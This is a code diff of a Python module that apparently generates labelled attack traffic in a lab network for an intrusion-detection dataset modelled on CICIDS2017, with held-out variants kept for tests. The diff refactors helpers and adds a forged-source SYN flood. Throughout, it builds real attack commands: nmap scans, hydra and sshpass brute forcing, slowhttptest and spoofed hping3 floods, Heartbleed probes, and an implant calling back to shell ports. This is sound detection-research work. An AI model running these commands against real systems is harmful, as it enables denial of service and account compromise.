@@ -6,57 +6,16 @@ Those that are held out are never trained with: they show what is found of progr
 from __future__ import annotations
 
 import random
-from collections.abc import Callable, Sequence
-from contextlib import suppress
-from dataclasses import dataclass
-from functools import partial
+from collections.abc import Sequence
 
 from lab.attacks import word_list
-from lab.errors import CommandError
-from lab.floods import together
 from lab.labels import TCP
-from lab.network import Host
 from lab.scenarios import Stage
 from lab.servers import FTP_PORTS, SSH_PORTS, USER, WEB_PORTS
+from lab.variant import Action, Variant, attacker_of, run, run_module
+from lab.variant_floods import bench_flood, http_flood, packet_flood, slow, slow_http
 
 BEACON_PORTS, SHELL_PORTS, HEARTBLEED_PORTS = (8443, 8080, 6667, 443), ((4444, 8000), (444, 80)), (4433, 8443)
-
-Action = Callable[[Stage, random.Random], object]
-
-
-@dataclass(frozen=True)
-class Variant:
-    """An attack, anew each time.
-
-    Attributes
-    ----------
-    name
-        For the progress display.
-    action
-        Runs it, with its labels.
-    is_held_out
-        Whether it is only for tests.
-    """
-
-    name: str
-    action: Action
-    is_held_out: bool = False
-
-
-def attacker_of(stage: Stage, chance: random.Random) -> Host:
-    """Choose who attacks."""
-    return stage.host(chance.choice(["mallory", "trudy"]))
-
-
-def _run(host: Host, *command: str, timeout_s: float = 25) -> None:
-    """Run an attack tool; however it ends, it has been on the wire."""
-    with suppress(CommandError):
-        host.run(*command, timeout_s=timeout_s)
-
-
-def _run_module(host: Host, module: str, *arguments: object, timeout_s: float = 40) -> None:
-    with suppress(CommandError):
-        host.run_module(module, *map(str, arguments), timeout_s=timeout_s)
 
 
 def _nmap(*options: str, tool: str, hosts: Sequence[str] = ("web", "files", "dns", "alice", "c2")) -> Action:
@@ -72,7 +31,7 @@ def _nmap(*options: str, tool: str, hosts: Sequence[str] = ("web", "files", "dns
             ports = ["-p", "21,22,80,443,902,2121,3000,3389,5222"]
         rate = ["--max-rate", str(chance.choice([40, 100, 200, 400]))]
         with stage.label("PortScan", tool, source, address):
-            _run(
+            run(
                 scanner,
                 "nmap",
                 "-n",
@@ -93,14 +52,14 @@ def _connect_scan(stage: Stage, chance: random.Random) -> None:
     first, seed = chance.randint(1, 9000), chance.getrandbits(20)
     words = (target.ipv4, "--first", first, "--last", first + chance.randint(60, 250), "--seed", seed)
     with stage.label("PortScan", "connect_scan", scanner.ipv4, target.ipv4, None, TCP):
-        _run_module(scanner, "lab.tools.connect_scan", *words, "--rate", chance.choice([40, 120, 300]))
+        run_module(scanner, "lab.tools.connect_scan", *words, "--rate", chance.choice([40, 120, 300]))
 
 
 def _hping_scan(stage: Stage, chance: random.Random) -> None:
     scanner, target = attacker_of(stage, chance), stage.host(chance.choice(["web", "files"]))
     first = chance.randint(1, 30_000)
     with stage.label("PortScan", "hping3 --scan", scanner.ipv4, target.ipv4, None, TCP):
-        _run(scanner, "hping3", "-I", "eth0", "--scan", f"{first}-{first + 150}", "-S", target.ipv4, timeout_s=12)
+        run(scanner, "hping3", "-I", "eth0", "--scan", f"{first}-{first + 150}", "-S", target.ipv4, timeout_s=12)
 
 
 def _hydra(class_name: str, service: str, host: str, ports: Sequence[int], *options: str) -> Action:
@@ -110,7 +69,7 @@ def _hydra(class_name: str, service: str, host: str, ports: Sequence[int], *opti
         words += ["-t", str(chance.choice([1, 2, 4])), "-w", "3", "-c", chance.choice(["0", "1"])]
         words = words[:-2] if words[-1] == "0" else words
         with stage.label(class_name, f"hydra {service}", attacker.ipv4, target.ipv4, port, TCP):
-            _run(attacker, "hydra", *words, target.ipv4, service, *options, timeout_s=18)
+            run(attacker, "hydra", *words, target.ipv4, service, *options, timeout_s=18)
 
     return action
 
@@ -126,7 +85,7 @@ def _script(class_name: str, script: str, host: str, ports: Sequence[int], *argu
         )
         options = ["-n", "-Pn", "-sT", "-p", str(port), "--script", f"+{script}", "--script-args", given]
         with stage.label(class_name, f"nmap {script}", attacker.ipv4, target.ipv4, port, TCP):
-            _run(attacker, "nmap", *options, target.ipv4, timeout_s=22)
+            run(attacker, "nmap", *options, target.ipv4, timeout_s=22)
 
     return action
 
@@ -139,7 +98,7 @@ def _guess_ssh(stage: Stage, chance: random.Random) -> None:
     with stage.label("SSH-Patator", "sshpass ssh", attacker.ipv4, target.ipv4, port, TCP):
         for number in range(12):
             command = ["sshpass", "-p", f"guess{number}", "ssh", *options, f"{USER}@{target.ipv4}", "true"]
-            _run(attacker, *command, timeout_s=6)
+            run(attacker, *command, timeout_s=6)
 
 
 def _guess_ftp(stage: Stage, chance: random.Random) -> None:
@@ -148,7 +107,7 @@ def _guess_ftp(stage: Stage, chance: random.Random) -> None:
     with stage.label("FTP-Patator", "curl ftp", attacker.ipv4, target.ipv4, port, TCP):
         for number in range(6):
             url = f"ftp://{target.ipv4}:{port}/"
-            _run(attacker, "curl", "-s", "--max-time", "8", "--user", f"{USER}:guess{number}", url, timeout_s=10)
+            run(attacker, "curl", "-s", "--max-time", "8", "--user", f"{USER}:guess{number}", url, timeout_s=10)
 
 
 def _guess_web(stage: Stage, chance: random.Random) -> None:
@@ -159,7 +118,7 @@ def _guess_web(stage: Stage, chance: random.Random) -> None:
         for _ in range(10):
             words = ["-d", f"user=admin&password={chance.getrandbits(40):x}"]
             guesses = [word for _ in range(chance.randint(4, 12)) for word in ("-o", "/dev/null", url)]
-            _run(attacker, "curl", "-s", "--max-time", "8", *words, *guesses)
+            run(attacker, "curl", "-s", "--max-time", "8", *words, *guesses)
 
 
 def _web_attack(kind: str, class_name: str) -> Action:
@@ -171,70 +130,9 @@ def _web_attack(kind: str, class_name: str) -> Action:
             for _ in range(8 if is_kept else 1):
                 words = ["--port", port, "--seed", chance.getrandbits(16), "--rounds", chance.randint(1, 3)]
                 words += ["--pause-s", chance.choice([0.03, 0.05, 0.1, 0.2]), *(["--keep"] if is_kept else [])]
-                _run_module(attacker, "lab.tools.web_attacks", kind, target.ipv4, *words, timeout_s=30)
+                run_module(attacker, "lab.tools.web_attacks", kind, target.ipv4, *words, timeout_s=30)
 
     return action
-
-
-def _http_flood(style: str, class_name: str) -> Action:
-    def action(stage: Stage, chance: random.Random) -> None:
-        attacker, target, port = attacker_of(stage, chance), stage.host("web"), chance.choice(WEB_PORTS)
-        words = [style, target.ipv4, "--port", port, "--seed", chance.getrandbits(16), "--limit-s", "10"]
-        words += ["--requests", chance.choice([150, 300, 500]), "--threads", chance.choice([4, 8, 20])]
-        with stage.label(class_name, f"http_flood {style}", attacker.ipv4, target.ipv4, port, TCP):
-            _run_module(attacker, "lab.tools.http_flood", *words, "--pause-s", chance.choice([0.02, 0.2, 0.5]))
-
-    return action
-
-
-def _slow(class_name: str, mode: str, *options: str, page: str = "1m.bin") -> Action:
-    def action(stage: Stage, chance: random.Random) -> None:
-        attacker, target, port = attacker_of(stage, chance), stage.host("web"), chance.choice(WEB_PORTS)
-        seconds = chance.choice([8, 14, 22])
-        words = ["-c", str(chance.choice([20, 40, 60])), "-r", str(chance.choice([10, 20, 50])), "-l", str(seconds)]
-        words += ["-p", "3", "-v", "0", *(["-i", str(chance.choice([1, 3, 6]))] if mode in "-H -B" else [])]
-        url = f"http://{target.ipv4}:{port}/{page}"
-        with stage.label(class_name, f"slowhttptest {mode}", attacker.ipv4, target.ipv4, port, TCP):
-            _run(attacker, "slowhttptest", mode, *words, *options, "-u", url, timeout_s=seconds + 15)
-
-    return action
-
-
-def _slow_http(stage: Stage, chance: random.Random) -> None:
-    attacker, target, port = attacker_of(stage, chance), stage.host("web"), chance.choice(WEB_PORTS)
-    words = [target.ipv4, "--port", port, "--seed", chance.getrandbits(16), "--limit-s", chance.choice([8, 15, 25])]
-    words += ["--connections", chance.choice([15, 40]), "--interval-s", chance.choice([1.5, 4, 9])]
-    with stage.label("DoS slowloris", "slow_http", attacker.ipv4, target.ipv4, port, TCP):
-        _run_module(attacker, "lab.tools.slow_http", *words)
-
-
-def _packet_flood(tool: str, *options: str, has_port: bool = True) -> Action:
-    """Flood from several hosts; what comes back, resets and ICMP, is of the flood, too."""
-
-    def action(stage: Stage, chance: random.Random) -> None:
-        zombies, target = stage.host("zombies"), stage.host(chance.choice(["web", "files"]))
-        is_open = [80, 443, 3000] if target.name == "web" else [22, 21, 5222]
-        port = chance.choice([*is_open, 53, chance.randint(1, 65_535)]) if has_port else None
-        pause_us, count = chance.choice([(2_000, 600), (8_000, 300), (30_000, 120)])
-        words = ["-q", "-I", "eth0", "-i", f"u{pause_us}", "-c", str(count), *options]
-        words += ["-p", str(port)] if has_port else []
-        words += ["-d", str(chance.choice([0, 0, 64, 120, 1000]))]
-        sources = chance.sample(zombies.all_ipv4, chance.randint(2, 6))
-        with stage.label("DDoS", tool, sources, target.ipv4):
-            commands = [("hping3", *words, "-a", source, target.ipv4) for source in sources]
-            together([partial(_run, zombies, *command, timeout_s=15) for command in commands])
-
-    return action
-
-
-def _bench_flood(stage: Stage, chance: random.Random) -> None:
-    zombies, target, port = stage.host("zombies"), stage.host("web"), chance.choice(WEB_PORTS)
-    url = f"http://{target.ipv4}:{port}/{chance.choice(['1k.bin', '10k.bin', '', 'app/item?id=4'])}"
-    words = ["-q", "-r", "-n", str(chance.choice([30, 80, 200])), "-c", str(chance.choice([2, 4, 8]))]
-    words += ["-k"] if chance.random() < 0.3 else []
-    sources = chance.sample(zombies.all_ipv4, chance.randint(3, 6))
-    with stage.label("DDoS", "ab", sources, target.ipv4, port, TCP):
-        together([partial(_run, zombies, "ab", *words, "-B", source, url, timeout_s=15) for source in sources])
 
 
 def _heartbleed(stage: Stage, chance: random.Random) -> None:
@@ -242,7 +140,7 @@ def _heartbleed(stage: Stage, chance: random.Random) -> None:
     with stage.label("Heartbleed", "nmap ssl-heartbleed", attacker.ipv4, target.ipv4, port, TCP):
         for _ in range(3):
             words = ["-n", "-Pn", "-sT", "-p", str(port), "--script", "+ssl-heartbleed", target.ipv4]
-            _run(attacker, "nmap", *words, timeout_s=12)
+            run(attacker, "nmap", *words, timeout_s=12)
 
 
 def _heartbleed_long(stage: Stage, chance: random.Random) -> None:
@@ -250,7 +148,7 @@ def _heartbleed_long(stage: Stage, chance: random.Random) -> None:
     with stage.label("Heartbleed", "heartbleed_client", attacker.ipv4, target.ipv4, port, TCP):
         for _ in range(5):
             words = [target.ipv4, "--port", port, "--count", chance.randint(3, 25)]
-            _run_module(attacker, "lab.tools.heartbleed_client", *words, "--pause-s", chance.choice([0.05, 0.2]))
+            run_module(attacker, "lab.tools.heartbleed_client", *words, "--pause-s", chance.choice([0.05, 0.2]))
 
 
 def _infiltration(stage: Stage, chance: random.Random) -> None:
@@ -260,11 +158,11 @@ def _infiltration(stage: Stage, chance: random.Random) -> None:
         for _ in range(4):
             ports = chance.choice(SHELL_PORTS)
             more = ["--trojan-bytes", chance.choice([20_000, 60_000, 400_000]), "--times", chance.randint(1, 30)]
-            _run_module(victim, "lab.tools.infiltration", "implant", maker.ipv4, *ports, *more)
+            run_module(victim, "lab.tools.infiltration", "implant", maker.ipv4, *ports, *more)
     target = stage.host(chance.choice(["files", "dns", "alice"]))
     # As in the corrected CICIDS2017, a scan is a scan, whoever has its machine do it.
     with stage.label("PortScan", "nmap -sT from inside", victim.ipv4, target.ipv4, None, TCP):
-        _run(victim, "nmap", "-n", "-Pn", "-sT", "--top-ports", "60", "--max-rate", "80", target.ipv4)
+        run(victim, "nmap", "-n", "-Pn", "-sT", "--top-ports", "60", "--max-rate", "80", target.ipv4)
 
 
 _FORM = "/app/login:user=^USER^&password=^PASS^:incorrect"
@@ -292,19 +190,20 @@ VARIANTS: tuple[Variant, ...] = (
     Variant("web-nmap", _script(_WEB_GUESS, "http-form-brute", "web", WEB_PORTS, *_FORM_SCRIPT), is_held_out=True),
     Variant("sql", _web_attack("sql", "Web Attack – Sql Injection")),
     Variant("xss", _web_attack("xss", "Web Attack – XSS")),
-    Variant("hulk", _http_flood("hulk", "DoS Hulk")),
-    Variant("goldeneye", _http_flood("goldeneye", "DoS GoldenEye")),
-    Variant("slow-headers", _slow("DoS slowloris", "-H", page="")),
-    Variant("slow-python", _slow_http),
+    Variant("hulk", http_flood("hulk", "DoS Hulk")),
+    Variant("goldeneye", http_flood("goldeneye", "DoS GoldenEye")),
+    Variant("slow-headers", slow("DoS slowloris", "-H", page="")),
+    Variant("slow-python", slow_http),
     Variant("slow-nmap", _script("DoS slowloris", "http-slowloris", "web", WEB_PORTS), is_held_out=True),
-    Variant("slow-body", _slow("DoS Slowhttptest", "-B", page="app/login")),
-    Variant("slow-read", _slow("DoS Slowhttptest", "-X", "-n", "2", "-w", "256", "-y", "512", "-z", "32")),
-    Variant("slow-range", _slow("DoS Slowhttptest", "-R", "-a", "10", "-b", "300", "-t", "HEAD")),
-    Variant("flood-syn", _packet_flood("hping3 -S", "-S")),
-    Variant("flood-ack", _packet_flood("hping3 -A", "-A"), is_held_out=True),
-    Variant("flood-udp", _packet_flood("hping3 --udp", "--udp")),
-    Variant("flood-icmp", _packet_flood("hping3 --icmp", "--icmp", has_port=False)),
-    Variant("flood-http", _bench_flood),
+    Variant("slow-body", slow("DoS Slowhttptest", "-B", page="app/login")),
+    Variant("slow-read", slow("DoS Slowhttptest", "-X", "-n", "2", "-w", "256", "-y", "512", "-z", "32")),
+    Variant("slow-range", slow("DoS Slowhttptest", "-R", "-a", "10", "-b", "300", "-t", "HEAD")),
+    Variant("flood-syn", packet_flood("hping3 -S", "-S")),
+    Variant("flood-syn-forged", packet_flood("hping3 -S -a", "-S", is_forged=True)),
+    Variant("flood-ack", packet_flood("hping3 -A", "-A"), is_held_out=True),
+    Variant("flood-udp", packet_flood("hping3 --udp", "--udp")),
+    Variant("flood-icmp", packet_flood("hping3 --icmp", "--icmp", has_port=False)),
+    Variant("flood-http", bench_flood),
     Variant("heartbleed", _heartbleed),
     Variant("heartbleed-long", _heartbleed_long),
     Variant("infiltration", _infiltration),
